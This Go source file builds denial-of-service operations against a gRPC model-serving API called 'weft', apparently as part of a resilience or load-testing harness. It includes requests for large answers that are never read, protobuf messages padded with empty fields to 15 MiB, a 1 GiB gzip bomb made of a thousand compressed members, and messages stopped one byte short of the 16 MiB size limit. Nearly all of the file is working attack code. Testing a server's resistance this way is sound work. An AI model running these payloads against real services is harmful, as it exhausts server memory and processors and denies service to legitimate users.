package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"strconv"
	"sync"

	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/encoding/protowire"
	"google.golang.org/protobuf/proto"

	weftv1 "github.com/weftserve/weft/proto/gen/weft/v1"
)

// framed is a message as gRPC sends it. It panics where one cannot be encoded, since all are of this program.
func framed(m proto.Message) []byte {
	data, err := proto.Marshal(m)
	if err != nil {
		panic(err)
	}
	return prefixed(0, data)
}

// prefixed puts gRPC's five bytes before a message.
func prefixed(compressed byte, data []byte) []byte {
	return append(binary.BigEndian.AppendUint32([]byte{compressed}, uint32(len(data))), data...)
}

// unreadAnswers asks for large answers on a connection that may send none.
func unreadAnswers(l *link) (operation, error) {
	message := framed(largeRequest())
	return func(context.Context) error {
		stream, err := l.call(predictMethod)
		if err != nil {
			return err
		}
		return l.send(stream, message, true)
	}, nil
}

// unreadStream asks for large answers on a few streams in turn.
func unreadStream(l *link) (operation, error) {
	request := largeRequest()
	var streams [4]uint32
	for i := range streams {
		var err error
		if streams[i], err = l.call(streamMethod); err != nil {
			return nil, err
		}
	}
	n := 0
	return func(context.Context) error {
		n++
		request.RequestId = strconv.Itoa(n)
		return l.send(streams[n%len(streams)], framed(&weftv1.PredictStreamRequest{Request: request}), false)
	}, nil
}

const emptySize = 15 << 20 // bytes of a message of emptyInputs

// emptyInputs sends messages of fields that hold nothing.
func emptyInputs(l *link) (operation, error) {
	const inputs, outputs, floatValues, shape, stringValues = 2, 3, 4, 2, 11 // numbers of fields
	empty := func(field protowire.Number) []byte {
		return protowire.AppendBytes(protowire.AppendTag(nil, field, protowire.BytesType), nil)
	}
	fill := func(unit []byte) []byte { return bytes.Repeat(unit, emptySize/len(unit)) }
	tensor := func(fields []byte) []byte {
		entry := protowire.AppendString(protowire.AppendTag(nil, 1, protowire.BytesType), policyInput)
		entry = protowire.AppendBytes(protowire.AppendTag(entry, 2, protowire.BytesType), fields)
		return protowire.AppendBytes(protowire.AppendTag(nil, inputs, protowire.BytesType), entry)
	}
	packed := func(field protowire.Number) []byte {
		return protowire.AppendBytes(protowire.AppendTag(nil, field, protowire.BytesType), make([]byte, emptySize))
	}
	kinds := [](func() []byte){
		func() []byte { return fill(empty(inputs)) },
		func() []byte { return fill(empty(outputs)) },
		func() []byte { return tensor(packed(shape)) },
		func() []byte { return tensor(packed(floatValues)) },
		func() []byte { return tensor(fill(empty(stringValues))) },
	}
	model, err := proto.Marshal(&weftv1.PredictRequest{Model: &weftv1.ModelSpec{Name: policyName}})
	messages := make([][]byte, len(kinds)) // made once: honest callers share the attacker's processor
	for i, kind := range kinds {
		messages[i] = prefixed(0, append(bytes.Clone(model), kind()...))
	}
	next := l.number
	return func(context.Context) error {
		message := messages[next%len(messages)]
		next++
		stream, err := l.call(predictMethod)
		if err != nil {
			return err
		}
		return l.send(stream, message, true)
	}, err
}

// bomb is 1 GiB of zeros, as a thousand members of gzip.
var bomb = sync.OnceValue(func() []byte {
	var member bytes.Buffer
	w := gzip.NewWriter(&member)
	_, _ = w.Write(make([]byte, 1<<20)) // into memory
	_ = w.Close()
	return prefixed(1, bytes.Repeat(member.Bytes(), 1<<10))
})

func gzipBombs(l *link) (operation, error) {
	return func(context.Context) error {
		stream, err := l.call(predictMethod, hpack.HeaderField{Name: "grpc-encoding", Value: "gzip"})
		if err != nil {
			return err
		}
		return l.send(stream, bomb(), true)
	}, nil
}

// shortMessages sends messages of the largest size that is allowed, but for the last byte.
func shortMessages(l *link) (operation, error) {
	message := prefixed(0, make([]byte, 16<<20))
	return func(context.Context) error {
		stream, err := l.call(predictMethod)
		if err != nil {
			return err
		}
		// A call may have 16 MiB unread, so the announcement of five bytes leaves no more.
		return l.send(stream, message[:16<<20-1], false)
	}, nil
}
